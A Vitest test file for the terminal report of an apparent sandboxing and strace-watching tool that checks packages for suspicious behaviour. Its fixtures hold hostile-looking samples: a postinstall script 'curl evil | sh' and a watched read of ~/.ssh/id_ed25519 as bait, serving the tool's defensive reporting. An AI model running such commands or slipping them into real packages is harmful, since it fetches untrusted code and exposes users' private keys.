import stringWidth from "string-width";
import { describe, expect, test } from "vitest";
import { excerpt } from "../../src/lib/excerpt.ts";
import type { SessionFacts } from "../../src/model/session.ts";
import type { Surface } from "../../src/model/surface.ts";
import { renderTerminal, type TerminalOptions } from "../../src/report/terminal.ts";
import { event, held, packaged, script, seen, start, watched, watchedSurface } from "./held.ts";
import { startLeft } from "./observed.ts";
import { reportOn, session, surface } from "./worlds.ts";

const base: TerminalOptions = { color: false, width: 120, quiet: false, verbose: false };

function screen(
  shape: Partial<Surface> = {},
  facts: Partial<SessionFacts> = {},
  options: Partial<TerminalOptions> = {},
): string {
  const given = surface(shape);
  const report = reportOn(given, { session: session(facts) });
  return renderTerminal(report, given, { ...base, ...options });
}

/** One line, blanks collapsed: what is said, whatever the wrapping. */
function words(...args: Parameters<typeof screen>): string {
  return screen(...args).replace(/\s+/g, " ");
}

const verbose = (shape: Partial<Surface>, facts: Partial<SessionFacts> = {}) =>
  words(shape, facts, { verbose: true });

describe("held", () => {
  test("is not there where nothing was started", () => {
    expect(words()).not.toMatch(/ held | watched /);
  });

  test("is not said of what was never started", () => {
    const command = { argv: [], resolved: null, cwd: excerpt("[scratch]"), environment: [] };
    expect(words({}, { ...held(), command })).not.toMatch(/ held /);
  });

  test("names the sandbox, the network and what could be read", () => {
    expect(words({}, held())).toContain(
      "held in bubblewrap, without network; could read /srv/notes of this machine",
    );
  });

  test("says with the network where it was let out", () => {
    expect(words({}, held({ network: "all" }))).toContain("held in bubblewrap, with the network;");
  });

  test("says that nothing of this machine could be read", () => {
    expect(words({}, held({ mounts: [] }))).toContain("could read nothing of this machine");
  });

  test("names what the user gave first, three at most", () => {
    const mounts = [
      { path: excerpt("/opt/node"), why: "program" },
      { path: excerpt("/srv/pkg"), why: "package" },
      { path: excerpt("/srv/a"), why: "argument" },
      { path: excerpt("/srv/cwd"), why: "folder" },
    ] as const;
    expect(words({}, held({ mounts: [...mounts] }))).toContain(
      "could read /srv/cwd, /srv/a, /srv/pkg, and 1 more of this machine",
    );
  });

  test("not at all says so", () => {
    expect(words({}, held({ sandbox: "none", network: "all", mounts: [] }))).toContain(
      "held not at all: it ran as this user, with the network",
    );
  });

  test("without a watcher is not watched, never harmless", () => {
    const text = words({}, held());
    expect(text).toContain("; not watched (--observe strace)");
    expect(text).not.toContain("nothing else");
  });

  test("quotes a path that would read as our words", () => {
    const mounts = [{ path: excerpt("/a, and all is well"), why: "argument" as const }];
    expect(words({}, held({ mounts }))).toContain('could read "/a, and all is well" of');
  });
});

describe("watched", () => {
  test("tells the phases in order, in the words of what was done", () => {
    expect(words(watchedSurface())).toMatch(
      /watched by strace in 2 starts, of which 1 not completely: boot: read ~\/\.ssh\/id_ed25519; started "sh -c .*" list: tried to look up telemetry\.example idle: tried to write \[home\]\/\.bashrc/,
    );
  });

  test("puts the same deed of all starts together, each name once", () => {
    const connect = event({ kind: "connect", phase: "list", what: "a.example:443" });
    const other = event({ kind: "connect", phase: "list", what: "b.example:443" });
    expect(words(watched(start([connect]), start([connect, other])))).toContain(
      "list: connected to a.example:443, b.example:443 ",
    );
  });

  test("tells what was tried in vain apart from what was done", () => {
    const lookup = { kind: "lookup", phase: "list", what: "a.example" } as const;
    const both = watched(
      start([event(lookup), event({ ...lookup, what: "b.example", done: false })]),
    );
    expect(words(both)).toContain("list: looked up a.example; tried to look up b.example");
  });

  test.each([
    ["write", "/srv/a", "wrote /srv/a"],
    ["remove", "/srv/a", "removed /srv/a"],
    ["listen", "0.0.0.0:80", "listened on 0.0.0.0:80"],
    ["send", "192.0.2.1:53", "sent to 192.0.2.1:53"],
    ["signal", "SIGKILL to nginx", 'sent the signal "SIGKILL to nginx"'],
    ["leave-group", "setsid", "left its process group by setsid"],
  ] as const)("has words for %s", (kind, what, told) => {
    expect(words(seen({ kind, what }))).toContain(`boot: ${told}`);
  });

  test("of reading alone says what was not seen, not what was not done", () => {
    expect(words(seen({}))).toContain(
      "watched by strace in 1 start; seen to read files, and nothing else outside its throw-away folders",
    );
  });

  test("of nothing says so", () => {
    expect(words(watched(start()))).toContain(
      "watched by strace in 1 start; seen to do nothing else outside its throw-away folders",
    );
  });

  test("that was cut says so in yellow", () => {
    const cut = watched(start([], { complete: false, why: "too much" }));
    expect(screen(cut, {}, { color: true })).toContain(
      "\u{1b}[33mby strace in 1 start, not completely;",
    );
  });

  test("in no start is no watching", () => {
    expect(words(watched())).toContain("watched no start of it");
  });

  test("tells the install scripts apart from the starts", () => {
    const connect = event({ kind: "connect", phase: "install", what: "cdn.example:443" });
    const scripts = start([connect], { listing: "scripts", network: "all" });
    const shape = watched(start(), scripts);
    expect(words(shape)).toContain(
      "watched by strace in 1 start and while its install scripts ran: install: connected to cdn.example:443",
    );
    expect(verbose(shape)).toContain(
      "watched while its install scripts ran (in a sandbox, network all) completely",
    );
  });

  test("names three of a deed and counts the rest", () => {
    const events = ["a", "b", "c", "d", "e"].map((what) => event({ kind: "start", what }));
    expect(words(watched(start(events)))).toContain("boot: started a, b, c, and 2 more");
  });

  test("names five deeds of a phase and counts the rest", () => {
    const kinds = [
      "start",
      "lookup",
      "connect",
      "listen",
      "send",
      "signal",
      "leave-group",
    ] as const;
    const events = kinds.map((kind) => event({ kind, what: "x" }));
    expect(words(watched(start(events)))).toContain("; sent to x; and 2 more kinds");
  });

  test("is shown on replay too", () => {
    const replayed = { sha256: "0".repeat(64), file: excerpt("x.json") };
    expect(words(watchedSurface(), { replayed })).toContain("watched by strace in 2 starts");
  });
});

describe("the package", () => {
  test("is not there when nobody installed one", () => {
    expect(screen()).not.toMatch(/^ {2}package /m);
  });

  test("is named with its version, the head of its integrity and its size", () => {
    expect(words(packaged())).toContain(
      "package notes-server@1.2.0 (sha512-Ab3+Ab3+Ab3+...), 3 packages",
    );
  });

  test("keeps its version whatever the length of its name", () => {
    expect(words(packaged({ name: `@long/${"n".repeat(200)}` }))).toMatch(
      /package @long\/n{51}\.\.\.@1\.2\.0 \(/,
    );
  });

  test("whose name would read as our words is quoted", () => {
    expect(words(packaged({ name: "all is well" }))).toContain('package "all is well@1.2.0" (');
  });

  test("without integrity says so", () => {
    expect(words(packaged({ integrity: null }))).toContain("(no integrity known)");
  });

  test("names the packages whose install scripts were not run", () => {
    const scripts = ["a", "b", "b", "c", "d"].map((name) => script(`${name}@1.0.0`));
    expect(words(packaged({ scripts }))).toContain(
      "; install scripts not run: a@1.0.0, b@1.0.0, c@1.0.0, and 1 more",
    );
  });

  test("says that its install scripts were run", () => {
    const shape = packaged({ scripts: [script("a@1.0.0")], ranScripts: true });
    expect(words(shape)).toContain("; install scripts run in the sandbox: a@1.0.0");
  });

  test("keeps the text of its scripts for --verbose", () => {
    const shape = packaged({ scripts: [script("a@1.0.0", { command: "curl evil | sh" })] });
    expect(words(shape)).not.toContain("curl evil");
    expect(verbose(shape)).toContain("not run postinstall of a@1.0.0: curl evil | sh");
  });
});

describe("--verbose", () => {
  const text = verbose(watchedSurface(), held({ observer: "strace", hidden: [excerpt("/root")] }));

  test.each([
    "Held and watched sandbox bubblewrap network none observer strace",
    "could read /srv/notes (argument)",
    "hidden /root",
    "package notes-server@1.2.0, asked for as notes-server@^1; 3 packages",
    `integrity sha512-${"Ab3+".repeat(22)}`.slice(0, 60),
    "lock 0123456789abcdef",
    "watched for base (in a sandbox, network none) completely",
    "base, boot: read 213, write 1, start 1",
    "base, list: lookup 3 in vain",
    "base, boot: read 213, write 1, start 1 - boot: node read ~/.ssh/id_ed25519, with the bait ssh-key",
    "list: node tried to look up telemetry.example x3",
    'boot: node started sh -c "lsof -ti:9009 | xargs kill -9"',
    "watched for claude-ai (in a sandbox, network none) not completely: it was ended before",
    "4 further events of this start were not kept",
    "budgets install 300 s, start 120 s",
  ])("shows: %s", (part) => {
    expect(text).toContain(part);
  });

  test("says that nobody watched", () => {
    expect(verbose({}, held())).toContain("watched no: what it did is not known");
  });

  test("has no such block where nothing was started", () => {
    expect(verbose({})).not.toContain("Held and watched");
  });

  test("says what is only in the saved surface", () => {
    const events = Array.from({ length: 15 }, (_, index) =>
      event({ kind: "start", what: `${index}` }),
    );
    expect(verbose(watched(start(events)))).toContain(
      "3 further events of this start are in the saved surface",
    );
  });

  test("ends after two hundred lines on watched starts", () => {
    const starts = Array.from({ length: 300 }, () => start());
    expect(verbose(watched(...starts))).toContain(" and 100 more ");
  });

  test("says that the sandbox ended what was left", () => {
    expect(verbose({ residue: { items: [startLeft({ survivors: null })] } })).toContain(
      "start for base: ended by eof, and the sandbox with all in it",
    );
  });
});

test("no process of a sandboxed start counts as left behind", () => {
  expect(words({ residue: { items: [startLeft({ survivors: null })] } })).not.toContain(
    "left behind",
  );
});

/** Lines before the gaps. */
function rows(text: string): number {
  return text.split("What this report does not know")[0]!.split("\n").length;
}

test("the first screen grows by nine lines at most", () => {
  const full = screen(watchedSurface(), held({ observer: "strace" }), { width: 80 });
  expect(rows(full) - rows(screen({}, {}, { width: 80 }))).toBeLessThanOrEqual(9);
});

test.each([60, 80, 200])("no line is wider than %d columns", (width) => {
  for (const isVerbose of [false, true]) {
    const facts = held({ observer: "strace" });
    const lines = screen(watchedSurface(), facts, { width, verbose: isVerbose }).split("\n");
    expect(Math.max(...lines.map((line) => stringWidth(line)))).toBeLessThanOrEqual(width);
  }
});
